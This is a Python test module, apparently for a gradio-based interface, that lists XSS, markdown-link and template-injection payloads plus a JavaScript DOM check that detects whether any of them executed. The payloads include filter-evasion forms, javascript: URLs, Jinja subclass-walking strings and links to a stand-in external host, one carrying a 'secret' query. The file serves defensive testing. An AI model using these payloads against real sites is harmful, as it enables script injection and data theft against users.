"""Texts that would run, navigate or fetch if a page took any of them for more than text. CALL and AWAY tell that one did.

Sources of the forms: OWASP's cheat sheet of filter evasion, the html5sec list, and what gradio's own templates evaluate.
"""

from __future__ import annotations

CALL = "window.pwned=1,alert(1)"
AWAY = "http://elsewhere.example"

SCRIPTS = [
    f"<script>{CALL}</script>",
    f"<ScRiPt>{CALL}</sCrIpT>",
    f"<script src={AWAY}/a.js></script>",
    f"<script type=module>{CALL}</script>",
    f"</script><script>{CALL}</script>",
    f"<<script>{CALL}//<</script>",
    f"<scr<script>ipt>{CALL}</scr</script>ipt>",
    f"<noscript><p title='</noscript><img src=x onerror={CALL}>'>",
    f"<script\x0c>{CALL}</script>",
    f"\ufeff<script>{CALL}</script>",
]
HANDLERS = [
    f"<img src=x onerror={CALL}>",
    f"<img src=x oNeRrOr={CALL}>",
    f"<img/src=x/onerror={CALL}>",
    f"<img src=x onerror\n=\n{CALL}>",
    f"<img src='x' onerror='{CALL}' ",  # never closed
    f'"><img src=x onerror={CALL}>',
    f"'><img src=x onerror={CALL}>",
    f"`><img src=x onerror={CALL}>",
    f"<svg onload={CALL}>",
    f"<svg/onload={CALL}>",
    f"<svg><script>{CALL}</script></svg>",
    f"<svg><animate onbegin={CALL} attributeName=x dur=1s>",
    f"<svg><a xlink:href='javascript:{CALL}'><text y=20>x</text></a></svg>",
    f"<svg><use href='data:image/svg+xml,<svg id=x onload={CALL}>#x'/></svg>",
    f"<svg><foreignObject><iframe srcdoc='<script>parent.{CALL}</script>'></foreignObject></svg>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={CALL}>",
    f"<body onload={CALL}>",
    f"<details open ontoggle={CALL}>x</details>",
    f"<input autofocus onfocus={CALL}>",
    f"<select autofocus onfocus={CALL}></select>",
    f"<textarea autofocus onfocus={CALL}></textarea>",
    f"<video><source onerror={CALL}></video>",
    f"<audio src=x onerror={CALL}></audio>",
    f"<marquee onstart={CALL}>x</marquee>",
    f"<div onpointerover={CALL} style='position:fixed;inset:0'>x</div>",
    f"<style>@keyframes x{{}}</style><i style='animation-name:x' onanimationstart={CALL}></i>",
    f'" onmouseover="{CALL}" x="',
    f"' onfocus='{CALL}' tabindex=1 x='",
    f"x onerror={CALL} autofocus",
]
ADDRESSES = [
    f"<a href='javascript:{CALL}'>press</a>",
    f"<a href='java\nscript:{CALL}'>press</a>",
    f"<a href='data:text/html,<script>{CALL}</script>'>press</a>",
    f"<iframe src='javascript:{CALL}'></iframe>",
    f"<iframe srcdoc='<script>parent.{CALL}</script>'></iframe>",
    f"<object data='javascript:{CALL}'></object>",
    f"<embed src='javascript:{CALL}'>",
    f"<form action='javascript:{CALL}'><button>press</button></form>",
    f"<base href='{AWAY}/'>",
    f"<meta http-equiv=refresh content='0;url={AWAY}/'>",
    f"<link rel=stylesheet href='{AWAY}/a.css'>",
    f"<link rel=prefetch href='{AWAY}/a'>",
    f"<img src='{AWAY}/a.png'>",
    f"<img srcset='{AWAY}/a.png 1x'>",
    f"<picture><source srcset='{AWAY}/a.png'><img></picture>",
    f"<style>@import '{AWAY}/a.css';</style>",
    f"<p style='background:url({AWAY}/a.png)'>x</p>",
    f"<table background='{AWAY}/a.png'><tr><td>x</table>",
    f"<iframe src='{AWAY}/'></iframe>",
    f"![picture]({AWAY}/a.png)",
    f"![picture][1]\n\n[1]: {AWAY}/a.png",
    f"[press](javascript:{CALL})",
    f"<javascript:{CALL}>",
    f"[press]({AWAY}/?q=secret)",
    f"//{AWAY.removeprefix('http://')}/a.png",
]
TEMPLATES = [
    f"${{{CALL}}}",
    f"`${{{CALL}}}`",
    f"{{{{constructor.constructor('{CALL}')()}}}}",
    f"{{{{{{value}}}}}} {{{{#if value}}}}${{{CALL}}}{{{{/if}}}}",
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "{% for x in ().__class__.__base__.__subclasses__() %}{{ x }}{% endfor %}",
    f"<%= {CALL} %>",
    f"#{{{CALL}}}",
    f"$$\\href{{javascript:{CALL}}}{{x}}$$",
    f"$\\includegraphics{{{AWAY}/a.png}}$",
    f"```html\n<script>{CALL}</script>\n```",
    f"<!-- --><img src=x onerror={CALL}> -->",
    "<!--",
    "</div></div></div></body></html>",
    "<plaintext>",
    f"<template><img src=x onerror={CALL}></template>",
    f"&lt;img src=x onerror={CALL}&gt;",
    f"\\u003cimg src=x onerror={CALL}\\u003e",
    f"<img src=x onerror=&#97;&#108;&#101;&#114;&#116;(1) title={CALL}>",
    f"\u202e<img src=x onerror={CALL}>",
    f"\x00<img src=x onerror={CALL}>",
]
PAYLOADS = [*SCRIPTS, *HANDLERS, *ADDRESSES, *TEMPLATES]

# what of a page is there only if some text became more than text
LOOK = """() => {
  const found = [];
  for (const element of document.querySelectorAll('*')) {
    for (const attribute of element.attributes) {
      if (/^on/i.test(attribute.name)) found.push(element.outerHTML.slice(0, 120));
      if (!/^(src|srcset|href|xlink:href|action|data|style|background)$/i.test(attribute.name)) continue;
      if (/javascript:|elsewhere\\.example/i.test(attribute.value)) found.push(element.outerHTML.slice(0, 120));
    }
  }
  const strange = 'iframe, object, embed, marquee, plaintext, math, meta[http-equiv=refresh], img[src="x"], base:not([href="./"])';
  for (const element of document.querySelectorAll(strange)) found.push(element.outerHTML.slice(0, 120));
  if (window.pwned) found.push('it ran');
  return found;
}"""
